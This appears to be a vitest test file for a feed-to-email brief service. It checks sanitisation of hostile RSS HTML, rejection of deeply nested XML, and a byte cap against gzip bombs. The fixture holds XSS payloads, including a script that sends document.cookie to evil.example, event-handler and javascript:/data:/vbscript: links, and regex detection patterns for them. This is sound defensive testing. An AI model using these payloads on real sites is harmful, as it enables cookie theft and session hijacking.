import type { ServerResponse } from 'node:http';
import { gzipSync } from 'node:zlib';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createHarness, type Harness } from '../support/harness.ts';
import { fetchFeed } from '../../src/feed/fetchFeed.ts';
import { pollFeed } from '../../src/feed/poll.ts';
import { feedDeps, oldItem, rss, seedItem, startFeedServer, type FeedServer } from './support.ts';

/** Markup an attacker would need: a script element, an event-handler attribute, a script-scheme link. */
function expectInert(html: string): void {
  expect(html).not.toMatch(/<script/i);
  expect(html).not.toMatch(/<[a-z][^>]*\son[a-z]+\s*=/i);
  expect(html).not.toMatch(/<(iframe|object|embed|svg|form)/i);
  expect(html).not.toMatch(/(href|src)\s*=\s*["']?\s*(javascript|data|vbscript):/i);
}

const HOSTILE = `
<p>Intro <script>document.location='https://evil.example/?c='+document.cookie</script><b onmouseover="alert(1)">bold</b>
  <img src="x" onerror="alert(1)"> <a href="javascript:alert(1)">js link</a> <a href="https://ok.example/a">ok link</a>
  &lt;script&gt;alert('as text')&lt;/script&gt; **not bold** [md](javascript:alert(2))</p>
<h2>Section<script>alert(3)</script></h2>
<ul><li>Bullet <a href=" java&#x09;script:alert(4)">tabbed</a> <iframe src="https://evil.example"></iframe><svg onload="alert(5)"><a href="javascript:alert(6)">svg</a></svg></li>
<li><a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a> <form action="https://evil.example"><input name="x"></form>after</li></ul>
<figure><img src="https://img.example/a.jpg" alt="alt &quot; onerror=&quot;alert(1)" onerror="alert(7)"><figcaption>Cap <a href="vbscript:x">v</a><span class="credit">Credit<script>alert(8)</script></span></figcaption></figure>`;

let server: FeedServer;
let h: Harness;
beforeAll(async () => {
  server = await startFeedServer();
  h = await createHarness();
});
afterAll(async () => {
  await h?.close();
  await server?.close();
});

describe('hostile HTML in a feed item', () => {
  it('is inert in the stored brief and the compiled email; its words survive as text', async () => {
    const url = server.url('/hostile/feed');
    server.serve('/hostile/feed', rss([]));
    await pollFeed(feedDeps(h), url);
    server.serve('/hostile/feed', rss([{ guid: 'h1', title: 'Hostile &lt;script&gt;alert(9)&lt;/script&gt;', link: 'https://site.example/h1', html: HOSTILE, categories: ['Russia'] }]));
    const outcome = await pollFeed(feedDeps(h), url);
    const id = outcome.status === 'polled' ? outcome.created[0] : undefined;
    expect(id).toBeTruthy();

    const stored = (await h.services.briefs.get(id!))!;
    // Title and alt are plain text, escaped wherever they are shown (checked in the preview below);
    // the inline-Markdown fields and URLs hold no markup and no script links.
    const { intro, sections, image } = stored.brief;
    const markdown = [...intro, ...sections.flatMap((x) => [x.heading, ...x.bullets]), image?.url, image?.caption, image?.credit].join('\n');
    // Only backslash-escaped (literal) angle brackets and brackets; no handler attributes, no script-scheme links.
    expect(markdown).not.toMatch(/(?<!\\)<[a-z/]/i);
    expect(markdown).not.toMatch(/\son[a-z]+\s*=/i);
    expect(markdown).not.toMatch(/(?<!\\)\]\(\s*(javascript|data|vbscript):/i);
    expect(stored.brief.intro).toEqual([
      "Intro **bold** js link [ok link](https://ok.example/a) \\<script\\>alert('as text')\\</script\\> \\*\\*not bold\\*\\* \\[md\\](javascript:alert(2))",
    ]);
    // The title's escaped markup is its text; it is escaped again wherever it is shown.
    expect(stored.brief.title).toBe('Hostile <script>alert(9)</script>');
    expect(stored.brief.sections).toEqual([{ heading: 'Section', bullets: ['Bullet tabbed', 'data after'] }]);
    expect(stored.brief.image).toEqual({ url: 'https://img.example/a.jpg', alt: 'alt " onerror="alert(1)', caption: 'Cap v', credit: 'Credit' });

    const preview = await h.app.inject({ method: 'GET', url: `/api/briefs/${id}/preview?format=html`, headers: h.auth });
    expect(preview.statusCode).toBe(200);
    expectInert(preview.body);
    expect(preview.body).toContain('href="https://ok.example/a"');
    expect(preview.body).toContain('&lt;script&gt;alert(');
    expect(preview.body).toContain('Hostile &lt;script&gt;alert(9)&lt;/script&gt;');
    const text = await h.app.inject({ method: 'GET', url: `/api/briefs/${id}/preview?format=text`, headers: h.auth });
    expect(text.body).toContain('**not bold** [md](javascript:alert(2))');
  });
});

describe('hostile structure and encoding in a feed', () => {
  it('XML nested 10,000 deep: the poll fails with FEED_TOO_DEEP and creates nothing', async () => {
    const url = server.url('/hostile/deep-xml');
    server.serve('/hostile/deep-xml', rss([oldItem(1)]));
    await pollFeed(feedDeps(h), url);
    const before = (await h.services.briefs.list({ limit: 100 })).length;
    server.serve('/hostile/deep-xml', rss([seedItem(), oldItem(1)]).replace('<description>', `<description>${'<x>'.repeat(10_000)}${'</x>'.repeat(10_000)}`));
    expect(await pollFeed(feedDeps(h), url)).toMatchObject({ status: 'failed', code: 'FEED_TOO_DEEP' });
    expect(await h.services.briefs.list({ limit: 100 })).toHaveLength(before);
  });

  it('a gzip-compressed feed is read; a compression bomb stops at the byte cap (FEED_TOO_LARGE)', async () => {
    const gzipped = (body: Buffer) => (_req: unknown, res: ServerResponse) =>
      void res.writeHead(200, { 'content-type': 'application/rss+xml', 'content-encoding': 'gzip', 'content-length': String(body.length) }).end(body);
    server.route('/hostile/gzip', gzipped(gzipSync(rss([oldItem(1)]))));
    const ok = await fetchFeed(server.url('/hostile/gzip'), {}, { timeoutMs: 5_000, maxBytes: 1024 * 1024 });
    expect(ok.kind === 'ok' && ok.body).toBe(rss([oldItem(1)]));
    // 64 MB of zeros in about 64 KB on the wire.
    const bomb = gzipSync(Buffer.alloc(64 * 1024 * 1024));
    server.route('/hostile/bomb', gzipped(bomb));
    await expect(fetchFeed(server.url('/hostile/bomb'), {}, { timeoutMs: 10_000, maxBytes: 1024 * 1024 })).rejects.toMatchObject({ code: 'FEED_TOO_LARGE' });
  });
});
